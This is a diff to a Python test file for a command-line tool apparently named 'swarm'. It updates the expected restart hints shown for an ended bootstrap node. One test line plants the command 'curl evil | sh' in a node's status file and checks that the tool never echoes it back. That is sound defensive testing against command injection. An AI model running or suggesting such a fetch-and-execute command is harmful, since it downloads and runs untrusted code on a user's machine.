@@ -206,8 +206,10 @@ def test_status_of_a_node_that_has_ended_shows_what_is_known(tmp_path: Path) -> 
     assert f"start it again with `swarm run {tmp_path}/config.toml`" in swarm("dashboard", str(tmp_path)).stderr
     NodeStatus("12D3x", "a", dead.pid, 0.0, "ended", command="bootstrap").write(tmp_path / "status.json")
     told = swarm("status", str(tmp_path))
-    assert f"start it again with `swarm bootstrap --dir {tmp_path}` with the --manifest, --listen" in told.stderr
+    assert f"start it again with `swarm bootstrap --dir {tmp_path}` and the --manifest, --listen" in told.stderr
     assert "round" not in told.stdout, "a bootstrap peer has none"
+    (tmp_path / "bootstrap.toml").touch()
+    assert swarm("status", str(tmp_path)).stderr.endswith(f"start it again with `swarm bootstrap --dir {tmp_path}`\n")
     NodeStatus("12D3x", "a", dead.pid, 0.0, "ended", command="curl evil | sh").write(tmp_path / "status.json")
     told = swarm("status", str(tmp_path))
     assert "curl" not in told.stdout + told.stderr
